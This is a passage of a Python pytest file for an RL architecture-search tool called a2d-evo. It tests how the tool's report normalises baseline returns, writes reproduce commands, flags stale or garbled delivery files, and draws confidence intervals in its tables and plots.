    m = _metrics(600, 350.0, 1.0, 30, method="distill", width_multiplier=0.125, env_steps=12345)
    _agent(run.baselines / "small", (8, 8), m)
    cfg = run.load_config()
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert "| small | mlp-8x8 | 600 | 7.5% |" in md and "| distill | 12,345 | no |" in md
    assert "distill_x0.125" not in md  # found under its own name, not reported missing
    data = run_data.load_run(cfg, run)
    assert data.baselines["small"].extra == {
        "method": "distill",
        "width_multiplier": 0.125,
        "env_steps": 12345,
    }


def test_every_row_is_normalised_with_the_fronts_references(tmp_path: Path) -> None:
    # a baseline records the figure of its own R_random and R_teacher (they move with its
    # evaluation's settings, eval.num_envs among them): the report puts it on the front's
    # scale, one scale for the verdicts and margins it prints (found by review)
    run = make_run(tmp_path / "run", baselines=False)
    own = (400.0 - 60.0) / (R_TEACHER - 60.0)  # 0.773 against the front's 0.792
    m = _metrics(1200, 400.0, 20.0, 26, normalised_return=own, random_return_mean=60.0)
    _agent(run.baselines / "distill_x0.25", (16, 16), m)
    data = run_data.load_run(run.load_config(), run)
    assert data.baselines["distill_x0.25"].normalised_return == pytest.approx(_norm(400.0))
    assert data.baselines["distill_x0.25"].normalised_return != pytest.approx(own)
    # without the front's references the row keeps its own figure
    row = row_from_metrics("x", m, norm=References(None, R_TEACHER, None))
    assert row.normalised_return == own


def test_baselines_against_the_inherited_front_say_they_had_more_steps(tmp_path: Path) -> None:
    """Before an export delivers the fine-tuned front (or after its delivery went stale), the
    baselines face the front's inherited weights, which had the supernet's steps alone: the
    report names the baselines trained for more (it used to give the verdicts without a word
    on the budget)."""
    run = make_run(tmp_path / "run", baselines=False)
    cfg = run.load_config()
    steps = cfg.supernet.total_steps
    for name, method, budget in (
        ("distill_x0.25", "distill", steps + 4096),
        ("a2d_x0.25", "a2d", steps),
        ("ppo_x0.25", "ppo", 2 * steps),
    ):
        m = _metrics(600, 350.0, 1.0, 30, method=method, width_multiplier=0.25, env_steps=budget)
        _agent(run.baselines / name, (8, 8), m)  # fmt: skip
    data = run_data.load_run(cfg, run)
    assert not data.delivered
    md = report.render_markdown(cfg, run, data)
    assert f"inherited weights: the supernet's {steps:,} env steps (shared)" in md, md
    assert "; `distill_x0.25` trained for more" in md  # a2d at S and ppo (its own rule) not named
    # the knee exported on its own with a fine-tune (`--pick knee`): no delivery, which
    # Missing names with the budget that delivers one
    assert not any(m.startswith("the delivered front (") for m in data.missing)
    knee = json.loads((run.agents / "knee" / "metrics.json").read_text())
    knee["export_finetune"] = 4096
    (run.agents / "knee" / "metrics.json").write_text(json.dumps(knee))
    data = run_data.load_run(cfg, run)
    assert any(
        m.startswith("the delivered front (")
        and "exported one by one" in m
        and f"`a2d-evo export {run.root} --finetune {knee['export_finetune']}`" in m
        for m in data.missing
    ), data.missing
    # written by an export of every member that stopped before it delivered: said so, with
    # that export's own options (it said "exported one by one")
    for options, when in (
        ("--pick all --finetune 64", 2),
        ("--pick all --min-return=1.0 --finetune 32", 1),
    ):  # the later one named, not the first by name
        _agent(run.agents / f"front_0{when}", (8,),
               {**knee, "export_command": {"options": options, "time_ns": when}})  # fmt: skip
    data = run_data.load_run(cfg, run)
    said = [m for m in data.missing if m.startswith("the delivered front (")]
    assert len(said) == 1 and "exported one by one" not in said[0], said
    assert said[0].endswith(
        "an export of every member wrote agents here but none delivered the front (stopped, or "
        "a member exported again on its own since); run "
        f"`a2d-evo export {run.root} --pick all --finetune 64` to deliver it"
    ), said
    shutil.rmtree(run.agents / "front_01")
    shutil.rmtree(run.agents / "front_02")
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": ["knee"],
                 "exported": [], "chosen_on": "validation seeds"}  # fmt: skip
    (run.agents / "delivered.json").write_text(json.dumps(delivered))
    data = run_data.load_run(cfg, run)
    assert data.delivered == ["knee"]
    assert "env steps (shared) and no fine-tune" not in report.render_markdown(cfg, run, data)


def test_reproduce_lines_carry_the_recorded_fine_tune_budgets(tmp_path: Path) -> None:
    """A fine-tune by hand is reproduced with its own budget; one that `export` did (the
    delivery's budget) by the export line, which then carries `--finetune`."""
    run = make_run(tmp_path / "run", baselines=False)
    out = f"{run.root}-repro"
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo finetune {out}/agents/knee --steps 4096\n" in md and "STEPS" not in md
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": ["knee"], "exported": []}
    write_json(run.agents / "delivered.json", delivered)
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick knee --finetune 4096\n" in md
    assert "a2d-evo finetune" not in md
    # a rate given on export's command line is recorded by the agents, and reproduced
    metrics = json.loads((run.agents / "knee" / "metrics.json").read_text())
    write_json(run.agents / "knee" / "metrics.json", {**metrics, "finetune_lr": 5e-4})
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick knee --finetune 4096 --set finetune.lr=0.0005\n" in md
    # the config's own rate needs no flag
    write_json(run.agents / "knee" / "metrics.json", {**metrics, "finetune_lr": 2.5e-4})
    assert "--pick knee --finetune 4096\n" in write_report(run.load_config(), run).read_text()
    # `export --pick knee --finetune 0` writes no delivered.json: the agent's record says it
    (run.agents / "delivered.json").unlink()
    inherited = {k: v for k, v in metrics.items() if not k.startswith(("finetune", "before",
                                                                       "after"))}  # fmt: skip
    write_json(run.agents / "knee" / "metrics.json", {**inherited, "export_finetune": 0})
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick knee --finetune 0\n" in md
    # a knee exported on its own budget beside a delivery of another: each line its own
    write_json(run.agents / "delivered.json", delivered)  # 4096
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick knee --finetune 0\n" in md
    assert "a2d-evo finetune" not in md
    # ... as a front member exported again on its own (`export --pick 3 --finetune 8192`)
    member = {**metrics, "front_index": 3, "export_finetune": 8192, "finetune_budget": 8192}
    _agent(run.agents / "front_03", (8,), member)
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick all --finetune 4096\n" in md
    assert f"a2d-evo export {out} --pick 3 --finetune 8192\n" in md
    assert "a2d-evo finetune" not in md
    # ... then fine-tuned by hand for 1,024 more (finetune_budget adds up: 9,216): the
    # finetune line gives the 1,024 the export line does not (it said 9,216, training twice)
    _agent(run.agents / "front_03", (8,), {**member, "finetune_budget": 9216})
    md = write_report(run.load_config(), run).read_text()
    assert f"a2d-evo export {out} --pick 3 --finetune 8192\n" in md
    assert f"a2d-evo finetune {out}/agents/front_03 --steps 1024\n" in md

    # the options and times each export recorded (`export_command`): its lines in the order
    # they ran (not by the agents' names), each where it last ran; the delivery's own record
    # counts, since members an export kept hold the record of the one that wrote them
    def record(options: str, when: int) -> dict[str, object]:
        return {"options": options, "time_ns": when}

    whole = "--pick all --max-flops=900.0 --finetune 8192"
    for name, command in (("knee", record("--pick knee --finetune 0", 2)),
                          ("front_03", record(whole, 1))):  # fmt: skip
        m = json.loads((run.agents / name / "metrics.json").read_text())
        write_json(run.agents / name / "metrics.json", {**m, "export_command": command})
    write_json(run.agents / "delivered.json", {**delivered, "export_command": record(
        "--pick all --finetune 4096 --set finetune.lr=0.0005", 3)})  # fmt: skip
    md = write_report(run.load_config(), run).read_text()
    assert [line for line in md.splitlines() if line.startswith("a2d-evo export ")] == [
        f"a2d-evo export {out} {whole}",
        f"a2d-evo export {out} --pick knee --finetune 0",
        f"a2d-evo export {out} --pick all --finetune 4096 --set finetune.lr=0.0005",
    ]
    # the same whole export run again after the knee's (it kept its members): once, last
    write_json(run.agents / "delivered.json", {**delivered, "export_command": record(whole, 3)})
    md = write_report(run.load_config(), run).read_text()
    assert [line for line in md.splitlines() if line.startswith("a2d-evo export ")] == [
        f"a2d-evo export {out} --pick knee --finetune 0",
        f"a2d-evo export {out} {whole}",
    ]


def test_a_search_resumed_further_is_reproduced_as_it_ran(tmp_path: Path) -> None:
    """search.gens raised on --resume (2 -> 5, recorded in config_history.yaml): the evolve line
    starts at 2 and a resume line raises it, since a fresh 5-generation search measures its
    references on more generations and is another search."""
    from a2d_evo.runs.stage_budget import record_config_change

    run = make_run(tmp_path / "run", baselines=False)
    record_config_change(run.search, {"search.gens": (2, 5)})
    out = f"{run.root}-repro"
    md = write_report(run.load_config(), run).read_text()
    assert f"--out {out} --pop 16 --gens 2 --episodes 3\n" in md
    assert f"--out {out} --resume --set search.gens=5\n" in md
    # one --resume that raised both keys (one time stamp) is one line, both raised on it
    (run.search / "config_history.yaml").unlink()
    record_config_change(run.search, {"search.gens": (2, 5), "search.budget_steps": (1000, 9000)})
    md = write_report(run.load_config(), run).read_text()
    assert "--gens 2 --episodes 3 --set search.budget_steps=1000\n" in md
    assert md.count(" --resume ") == 1
    assert "--resume --set search.gens=5 --set search.budget_steps=9000\n" in md
    # that resume killed after the history and before the config, then run again: recorded
    # once (each key's own last change, not the history's last line, is the one it repeats)
    import yaml

    record_config_change(run.search, {"search.gens": (2, 5), "search.budget_steps": (1000, 9000)})
    history = yaml.safe_load((run.search / "config_history.yaml").read_text())["changes"]
    assert [h["key"] for h in history] == ["search.gens", "search.budget_steps"]
    assert write_report(run.load_config(), run).read_text().count(" --resume ") == 1


def test_training_stages_raised_on_resume_are_reproduced_as_they_ran(tmp_path: Path) -> None:
    """teacher.total_steps raised twice and supernet.total_steps once on --resume: their lines
    start at the first budget and a --resume line replays each raise (one straight run at
    the last budget trains another schedule: its learning-rate decay spans the whole)."""
    from a2d_evo.runs.stage_budget import record_config_change

    run = make_run(tmp_path / "run", baselines=False)
    (run.teacher).mkdir(parents=True, exist_ok=True)
    record_config_change(run.teacher, {"teacher.total_steps": (200000, 400000)})
    record_config_change(run.teacher, {"teacher.total_steps": (400000, 800000)})
    record_config_change(run.supernet, {"supernet.total_steps": (1000, 3000)})
    out = f"{run.root}-repro"
    md = write_report(run.load_config(), run).read_text()
    teacher = f"a2d-evo train-teacher  --config {run.config_path} --out {out}"
    supernet = f"a2d-evo train-supernet --config {run.config_path} --out {out}"
    assert (
        f"{teacher} --set teacher.total_steps=200000\n"
        f"{teacher} --resume --set teacher.total_steps=400000\n"
        f"{teacher} --resume --set teacher.total_steps=800000\n"
        f"{supernet} --set supernet.total_steps=1000\n"
        f"{supernet} --resume --set supernet.total_steps=3000\n"
    ) in md, md
    # a supernet distilled from a teacher outside the run: its copy line is no training
    write_json(run.supernet / "summary.json", {"teacher": "/x/train-teacher-runs/agent"})
    md = write_report(run.load_config(), run).read_text()
    assert f"cp -r /x/train-teacher-runs/agent {out}/teacher/agent\n" in md, md
    assert "teacher.total_steps" not in md


def test_agents_and_a_delivery_from_an_older_front_are_not_reported(tmp_path: Path) -> None:
    """An agent whose ``sources.front`` is another ``front.json``'s digest (the search ran
    again since it was exported) and a ``delivered.json`` from another front are named under
    Missing, not reported as this front's (a re-export left them, then the report mislabelled
    their rows and set the baselines against them)."""
    from a2d_evo.runs.files import file_digest

    run = make_run(tmp_path / "run", baselines=False)
    current = file_digest(run.search / "front.json")
    metrics = json.loads((run.agents / "knee" / "metrics.json").read_text())
    write_json(run.agents / "knee" / "metrics.json", {**metrics, "sources": {"front": current}})
    old = {**metrics, "sources": {"front": "0" * 64}}
    _agent(run.agents / "front_07", (8,), old)
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": ["knee"],
                 "exported": [], "front_sha256": "0" * 64}  # fmt: skip
    write_json(run.agents / "delivered.json", delivered)
    data = run_data.load_run(run.load_config(), run)
    assert sorted(data.agents) == ["knee"]
    assert data.delivered == []
    assert any("front_07: exported from an older `front.json`" in m for m in data.missing)
    # the hint delivers with the budget the front was delivered with, not the config's
    assert any(
        f"delivered from an older `front.json`; run `a2d-evo export {run.root} --finetune 4096`"
        in m
        for m in data.missing
    ), data.missing
    # delivered from this front: reported
    write_json(run.agents / "delivered.json", {**delivered, "front_sha256": current})
    assert run_data.load_run(run.load_config(), run).delivered == ["knee"]


def test_the_delivered_front_says_how_many_members_its_intervals_tell_apart(
    tmp_path: Path,
) -> None:
    """The demo's table and the report name the largest set of delivered members whose 95%
    intervals do not overlap, and the normalised span (issue [J], item 9's measure). Hand
    values: 300 +- 2.0595 * 10 / 5 = 4.12 (n 26), 450 +- 2.1199 * 5 / 4 = 2.65 (n 17),
    452 +- 2.2622 * 3 / 3 = 2.26 (n 10): [295.88, 304.12], [447.35, 452.65], [449.74, 454.26];
    the upper two overlap, so 2 of 3; span (452 - 300) / 480 = 0.317."""
    from a2d_evo.runs.files import file_digest

    run = make_run(tmp_path / "run", baselines=False)
    current = file_digest(run.search / "front.json")
    members = {"front_00": (500, 300.0, 10.0, 26), "front_01": (1000, 450.0, 5.0, 17),
               "front_02": (4000, 452.0, 3.0, 10)}  # fmt: skip
    exported = []
    for name, (flops, ret, std, n) in members.items():
        _agent(run.agents / name, (4,), {**_metrics(flops, ret, std, n),
                                         "sources": {"front": current}})  # fmt: skip
        exported.append({"agent": name, "flops": flops, "return_mean": ret, "return_std": std,
                         "episodes": n, "normalised_return": _norm(ret),
                         "inherited_return_mean": ret, "kept": KEPT_INHERITED})  # fmt: skip
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": list(members),
                 "exported": exported, "front_sha256": current}  # fmt: skip
    write_json(run.agents / "delivered.json", delivered)
    line = (
        "Told apart by their 95% intervals: 2 of 3 members (`front_00`, `front_01`; the "
        "largest set whose intervals do not overlap); the 3 members' normalised returns span "
        "0.317."
    )
    table = tables.delivered_table(delivered)
    assert table.endswith("\n\n" + line)
    assert "| front_01 | 1,000 | 450.0 ± 2.6 |" in table
    # with the archs the folders hold (the demo's table; a new user's finding: no arch)
    named = tables.delivered_table(delivered, {"front_00": "mlp-4", "front_01": "mlp-8x8"})
    assert named.startswith("| agent | arch | FLOPs | return (95% CI) |")
    assert named.splitlines()[1] == "| --- | --- | --- | --- | --- | --- | --- |"
    assert "| front_01 | mlp-8x8 | 1,000 | 450.0 ± 2.6 |" in named
    assert "| front_02 | ? |" in named  # no arch read for it
    assert line in write_report(run.load_config(), run).read_text()
    # none apart when every pair overlaps (it said "1 of 3 members (`front_00`)")
    wide = [dict(e, return_std=400.0) for e in exported]
    assert tables.delivered_table({**delivered, "exported": wide}).endswith(
        "\n\nTold apart by their 95% intervals: none of the 3 members; the 3 members' "
        "normalised returns span 0.317."
    )
    # apart once the third moves clear of the second: 3 of 3
    exported[2]["return_mean"] = 460.0
    assert "3 of 3 members (`front_00`, `front_01`, `front_02`;" in tables.delivered_table(
        delivered
    )
    # a member rewritten after its delivery (a standalone finetune: other figures, other
    # seeds) is no delivered member: named under Missing, not set against the baselines
    later = {**_metrics(1000, 470.0, 5.0, 17), "sources": {"front": current}}
    write_json(run.agents / "front_01" / "metrics.json", later)
    data = run_data.load_run(run.load_config(), run)
    assert data.delivered == []
    assert any(
        "front_01 was changed after it was delivered" in m
        and f"run `a2d-evo export {run.root} --finetune 4096` to deliver the front again" in m
        for m in data.missing
    ), data.missing
    # one member: nothing to tell apart, no line; nor where a member played one episode
    # (no interval: a point would look apart from everything)
    one = {**delivered, "members": ["front_00"]}
    assert "Told apart" not in tables.delivered_table(one)
    exported[1]["episodes"] = 1
    assert "Told apart" not in tables.delivered_table(delivered)
    # nor where a member records no spread (it was read as 0: an interval 0 wide, told apart
    # from members 0.1 away; found by review)
    exported[1]["episodes"] = 17
    exported[1]["return_std"] = None  # what write_delivered copies from such metrics
    table = tables.delivered_table(delivered)
    assert "Told apart" not in table and "| front_01 | 1,000 | 450.0 |" in table
    row = row_from_metrics("x", {"return_mean": 1.0, "flops": 10, "episodes": 30})
    assert row.ci95 is None and "±" not in tables._return(row)
    # a delivered member deleted since: named under Missing (the front was shown without it)
    write_json(run.agents / "front_01" / "metrics.json", json.loads(json.dumps(
        {**_metrics(1000, 450.0, 5.0, 17), "sources": {"front": current}})))  # fmt: skip
    assert run_data.load_run(run.load_config(), run).delivered == list(members)
    shutil.rmtree(run.agents / "front_02")
    data = run_data.load_run(run.load_config(), run)
    assert data.delivered == []
    assert any(
        "lists front_02, which RUN_DIR/agents no longer holds as an agent" in m
        for m in data.missing
    ), data.missing


def test_the_plot_legend_says_which_weights_the_delivered_front_ships() -> None:
    """Members whose fine-tune the validation rejected ship inherited weights: the legend of
    the delivered front counts them (it said "fine-tuned" for every member)."""
    from a2d_evo.report.plots import delivered_label

    ft, inh = KEPT_FINE_TUNED, KEPT_INHERITED
    assert delivered_label([ft, ft]) == "delivered front (2, fine-tuned, ± 95%)"
    assert delivered_label([ft, inh, ft]) == "delivered front (3, 2 fine-tuned, 1 inherited, ± 95%)"
    assert delivered_label([inh]) == "delivered front (1, inherited weights, ± 95%)"


def test_a_row_without_an_interval_gets_no_error_bar_in_the_plot(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A front entry scored on one episode has no interval: no bar (NaN), where `ci95 or 0`
    drew a zero-width one, an exact-looking figure (found by review)."""
    import matplotlib.axes

    from a2d_evo.report.plots import pareto_png

    run = make_run(tmp_path / "run")
    front = json.loads((run.search / "front.json").read_text())
    front["front"][1]["episodes"] = 1
    write_json(run.search / "front.json", front)
    data = run_data.load_run(run.load_config(), run)
    bars: list[list[float]] = []
    errorbar = matplotlib.axes.Axes.errorbar

    def spy(self: Any, *args: Any, **kwargs: Any) -> Any:
        bars.append(list(kwargs["yerr"]))
        return errorbar(self, *args, **kwargs)

    monkeypatch.setattr(matplotlib.axes.Axes, "errorbar", spy)
    pareto_png(data)
    one = [r.label for r in data.front].index("1")
    assert math.isnan(bars[0][one])
    assert bars[0][[r.label for r in data.front].index("3")] == pytest.approx(2.65, abs=0.01)


def test_budgets_seed_and_teacher_row_are_the_stages_own(tmp_path: Path) -> None:
    """A `train-supernet --resume` raise is written to supernet/config.yaml only, and an
    `evolve --seed` to search/config.yaml only: the report states what the stages ran with,
    as the baselines' budgets do. The teacher row is normalised with the front's references
    like every other row (its metrics.json holds 1.0, on its own evaluation seeds)."""
    from a2d_evo.config import replace
    from a2d_evo.runs.files import file_digest
    from a2d_evo.train.baselines import run_budgets

    run = make_run(tmp_path / "run", baselines=False)
    cfg = run.load_config()
    raised = replace(cfg, supernet=replace(cfg.supernet, total_steps=400_000))
    write_text(run.supernet / "config.yaml", dump_config(raised))
    write_text(run.search / "config.yaml", dump_config(replace(cfg, seed=7)))
    current = file_digest(run.search / "front.json")
    _agent(run.agents / "front_00", (4,), {**_metrics(500, 300.0, 10.0, 26),
                                           "sources": {"front": current}})  # fmt: skip
    exported = [{"agent": "front_00", "flops": 500, "return_mean": 300.0, "return_std": 10.0,
                 "episodes": 26, "normalised_return": _norm(300.0),
                 "inherited_return_mean": 300.0, "kept": KEPT_INHERITED}]  # fmt: skip
    write_json(run.agents / "delivered.json", {"format_version": 1, "finetune_steps": 4096,
               "members": ["front_00"], "exported": exported, "front_sha256": current})  # fmt: skip
    md = write_report(cfg, run).read_text()
    assert cfg.supernet.total_steps != 400_000 and cfg.seed != 7
    assert "had the supernet's 400,000 env steps" in md
    assert run_budgets(cfg, run).supernet.total_steps == 400_000  # what the baselines get
    assert "- root seed 7; re-scoring seeds" in md
    # the teacher scored 24 more on its own seeds than on the final ones (R_TEACHER)
    teacher_metrics = json.loads((run.teacher_agent / "metrics.json").read_text())
    teacher_metrics.update(return_mean=R_TEACHER + 24.0, normalised_return=1.0)
    write_json(run.teacher_agent / "metrics.json", teacher_metrics)
    data = run_data.load_run(cfg, run)
    assert data.teacher is not None
    assert data.teacher.normalised_return == pytest.approx(1.0 + 24.0 / (R_TEACHER - R_RANDOM))


@pytest.mark.parametrize("exported", [[{"agent": ["front_00"]}], 5, [7], [{"flops": 1}]])
def test_a_garbled_delivered_json_is_named_not_a_traceback(tmp_path: Path, exported: Any) -> None:
    """A shared run folder may hold anything: `report` names the file under Missing, and
    `export` removes it as untrustworthy (both raised TypeError, exit 1)."""
    from a2d_evo.report.front_export import _drop_stale_delivery
    from a2d_evo.runs.files import file_digest

    run = make_run(tmp_path / "run", baselines=False)
    current = file_digest(run.search / "front.json")
    garbled = {"format_version": 1, "finetune_steps": 0, "members": ["knee"],
               "exported": exported, "front_sha256": current}  # fmt: skip
    path = write_json(run.agents / "delivered.json", garbled)
    data = run_data.load_run(run.load_config(), run)
    assert data.delivered == []
    assert any("'exported' must be a list of rows that each name an 'agent'" in m
               for m in data.missing)  # fmt: skip
    write_report(run.load_config(), run)
    _drop_stale_delivery(run, ["front_03"], current, progress=False)
    assert not path.exists()


def test_reproduce_names_an_imported_teacher_and_a_supernet_s_own_teacher(tmp_path: Path) -> None:
    """`train-teacher` does not reproduce an imported teacher, nor does a plain
    `train-supernet` a supernet distilled from another teacher (`--teacher DIR`)."""
    run = make_run(tmp_path / "run", baselines=False)
    cfg = run.load_config()
    out = f"{run.root}-repro"
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"a2d-evo train-teacher  --config {run.config_path} --out {out}" in md
    metrics = json.loads((run.teacher_agent / "metrics.json").read_text())
    metrics.update(source="import-teacher (sb3)", imported_from="/data/ppo lunar.zip")
    write_json(run.teacher_agent / "metrics.json", metrics)
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert "train-teacher" not in md
    assert (
        f"a2d-evo import-teacher '/data/ppo lunar.zip' --format sb3 --config {run.config_path} "
        f"--out {out}"
    ) in md
    # a supernet distilled from a teacher outside the run: that teacher is copied in (evolve
    # refuses another), then named again
    write_json(run.supernet / "summary.json", {"format_version": 1, "teacher": "/other/agent"})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert "import-teacher" not in md and "train-teacher" not in md
    assert f"mkdir -p {out}/teacher && cp -r /other/agent {out}/teacher/agent\n" in md, md
    supernet = f"a2d-evo train-supernet --config {run.config_path} --out {out}"
    assert f"{supernet} --teacher /other/agent" in md
    # recorded where the path was valid: a relative path from another working folder, or a
    # moved run, is the run's own when the stage said so (and another teacher when it did not)
    write_json(run.supernet / "summary.json", {"teacher": "r/teacher/agent", "teacher_own": True})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert "--teacher" not in md
    write_json(run.supernet / "summary.json", {"teacher": "t/agent", "teacher_own": False})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"{supernet} --teacher t/agent" in md
    write_json(run.supernet / "summary.json", {"teacher": str(run.teacher_agent)})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"{supernet}\n" in md


def test_reproduce_lines_of_stages_trained_under_torchrun(tmp_path: Path) -> None:
    """A stage whose record says it trained on several processes (``world_sizes``) is
    reproduced under torchrun with the first piece's count, a change of count named; one
    process (or no record: a run from before it was kept) stays a plain command."""
    run = make_run(tmp_path / "run", baselines=False)
    cfg = run.load_config()
    out = f"{run.root}-repro"
    teacher = f"train-teacher  --config {run.config_path} --out {out}"
    supernet = f"train-supernet --config {run.config_path} --out {out}"
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"\na2d-evo {teacher}\n" in md and f"\na2d-evo {supernet}\n" in md
    metrics = json.loads((run.teacher_agent / "metrics.json").read_text())
    write_json(run.teacher_agent / "metrics.json", {**metrics, "world_sizes": [[0, 1]]})
    write_json(run.supernet / "summary.json", {"world_sizes": [[0, 4], [120, 2]]})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"\na2d-evo {teacher}\n" in md
    assert (
        f"\ntorchrun --standalone --nproc-per-node 4 -m a2d_evo {supernet}  # trained on 4 then "
        "2 processes, resumed at each change (docs/distributed.md)\n"
    ) in md, md
    write_json(run.teacher_agent / "metrics.json", {**metrics, "world_sizes": [[0, 8]]})
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"\ntorchrun --standalone --nproc-per-node 8 -m a2d_evo {teacher}\n" in md
    # an import off the allow-list is granted on torchrun lines too, before the comment
    from a2d_evo.config import replace

    cfg = replace(cfg, env=replace(cfg.env, imports=("myenvs:register",)))
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"-m a2d_evo {teacher} --env-import myenvs:register\n" in md
    assert f"-m a2d_evo {supernet} --env-import myenvs:register  # trained on 4 then" in md


def test_reproduce_lines_carry_an_import_off_the_allow_list(tmp_path: Path) -> None:
    """A run that records an env import off the allow-list: every Reproduce command that builds
    the env carries its --env-import (each was refused as given); report builds none, and an
    allow-listed import needs no flag."""
    from a2d_evo.config import replace

    run = make_run(tmp_path / "run")
    cfg = run.load_config()
    imports = ("myenvs:register", "minatar.gym:register_envs")
    cfg = replace(cfg, env=replace(cfg.env, imports=imports))
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    lines = [ln for ln in md.splitlines() if ln.startswith("a2d-evo ")]
    assert {ln.split()[1] for ln in lines} >= {"train-teacher", "train-supernet", "evolve",
                                                "export", "report"}  # fmt: skip
    for line in lines:
        grants = line.count("--env-import")
        assert grants == (0 if line.startswith("a2d-evo report ") else 1), line
        assert "minatar.gym" not in line
    assert all(ln.endswith("--env-import myenvs:register") for ln in lines
               if ln.split()[1] in ("train-teacher", "evolve"))  # fmt: skip


def test_an_agent_folder_whose_save_was_cut_short_is_missing_not_a_row(tmp_path: Path) -> None:
    """No arch.json (save_agent writes it last): its metrics.json may describe other weights
    than its policy.pt, so the report names it under Missing and shows no row for it."""
    run = make_run(tmp_path / "run")
    names = sorted(p.name for p in run.agents.iterdir() if (p / "metrics.json").is_file())
    (run.agents / names[0] / "arch.json").unlink()
    data = run_data.load_run(run.load_config(), run)
    assert names[0] not in data.agents
    assert any("has no arch.json (its save was cut short)" in m for m in data.missing)


def test_a_baseline_of_another_budget_or_teacher_is_not_set_against_the_front(
    tmp_path: Path,
) -> None:
    """A baseline records its budget and teacher digest: one trained for another fine-tune
    budget (a re-export with another --finetune) or against another teacher is named under
    Missing and gets no verdict; one that matches is compared as before."""
    from a2d_evo.runs.files import file_digest

    run = make_run(tmp_path / "run")
    cfg = run.load_config()
    names = sorted(p.name for p in run.agents.iterdir() if (p / "metrics.json").is_file())
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": names[:1],
                 "exported": [], "supernet_steps": 10_000}  # fmt: skip
    write_json(run.agents / "delivered.json", delivered)
    path = run.baselines / "distill_x0.25" / "metrics.json"
    m = json.loads(path.read_text())
    (run.teacher_agent / "policy.pt").write_bytes(b"the teacher's weights")
    teacher = file_digest(run.teacher_agent / "policy.pt")
    for budget, sha, kept in ((14_096, teacher, True), (10_000, teacher, False),
                              (14_096, "0" * 64, False)):  # fmt: skip
        write_json(path, {**m, "method": "distill", "baseline_budget": budget,
                          "teacher_sha256": sha})  # fmt: skip
        data = run_data.load_run(cfg, run)
        assert ("distill_x0.25" in data.baselines) == kept
        said = [x for x in data.missing if x.startswith("baseline distill_x0.25: trained")]
        assert bool(said) != kept and not any("distill_x0.25 (" in x for x in data.missing)


def test_a_teacher_changed_since_the_search_is_named_and_baselines_follow_the_front(
    tmp_path: Path,
) -> None:
    """The front records the teacher and supernet it was searched with (``search.sources``):
    a teacher trained further since is named under Missing (the front, its agents and their
    normalisation are of the old one), and a baseline counts when it was trained against the
    front's teacher, not the one there now."""
    import hashlib

    from a2d_evo.runs.files import file_digest

    run = make_run(tmp_path / "run")
    cfg = run.load_config()
    (run.teacher_agent / "policy.pt").write_bytes(b"the teacher, trained further")
    now = file_digest(run.teacher_agent / "policy.pt")
    old = hashlib.sha256(b"the teacher the search had").hexdigest()
    front = json.loads((run.search / "front.json").read_text())
    path = run.baselines / "distill_x0.25" / "metrics.json"
    m = json.loads(path.read_text())
    for recorded, changed in ((None, False), (now, False), (old, True)):
        if recorded is not None:
            front["search"]["sources"] = {"teacher": recorded, "supernet": None}
        write_json(run.search / "front.json", front)
        for sha, kept in ((now, not changed), (old, changed)):
            write_json(path, {**m, "method": "distill", "teacher_sha256": sha})
            data = run_data.load_run(cfg, run)
            assert ("distill_x0.25" in data.baselines) == kept, (recorded, sha)
        said = [x for x in data.missing if x.startswith("the teacher the search chose")]
        assert bool(said) == changed, data.missing
        if changed:
            assert f"`{run.teacher_agent}` changed since" in said[0]
    assert not any(x.startswith("the supernet the search") for x in data.missing)


def test_baselines_of_one_width_are_drawn_side_by_side() -> None:
    """Methods of equal FLOPs (ppo, distill, a2d of one width) are dodged on the log axis,
    centred on their FLOPs, in a fixed order, and only the rightmost names the width: with
    equal returns (CartPole's 500) their markers and labels hid one another."""
    from a2d_evo.report.plots import DODGE_DECADES, baseline_marks
    from a2d_evo.report.rows import Row

    def row(name: str, method: str, flops: float) -> Row:
        return Row(name, "mlp-16x16", flops, None, None, 500.0, 0.0, 30, 1.0,
                   extra={"method": method, "width_multiplier": 0.25})  # fmt: skip

    rows = [row("a2d_x0.25", "a2d", 736), row("ppo_x0.25", "ppo", 736),
            row("distill_x0.25", "distill", 736), row("ppo_x1", "ppo", 9088)]  # fmt: skip
    marks = {r.label: (x, labelled) for r, x, labelled in baseline_marks(rows)}
    step = 10**DODGE_DECADES
    assert marks["ppo_x0.25"][0] == pytest.approx(736 / step)
    assert marks["distill_x0.25"][0] == pytest.approx(736)
    assert marks["a2d_x0.25"][0] == pytest.approx(736 * step)
    assert marks["ppo_x1"] == (9088, True)  # alone at its FLOPs: drawn where it is
    assert [marks[n][1] for n in ("ppo_x0.25", "distill_x0.25", "a2d_x0.25")] == [
        False, False, True
    ]  # fmt: skip


def test_a_delivery_block_of_other_types_is_shown_as_unknown_not_a_traceback(
    tmp_path: Path,
) -> None:
    """front.json's delivery block is only shown: a shared file's null or string counts read
    as "?" (they were a TypeError from the number format), and no line without the steps."""
    run = make_run(tmp_path / "run", baselines=False)
    front = json.loads((run.search / "front.json").read_text())
    front["delivery"].update(final_episodes=None, halving_episodes="many", candidates=True)
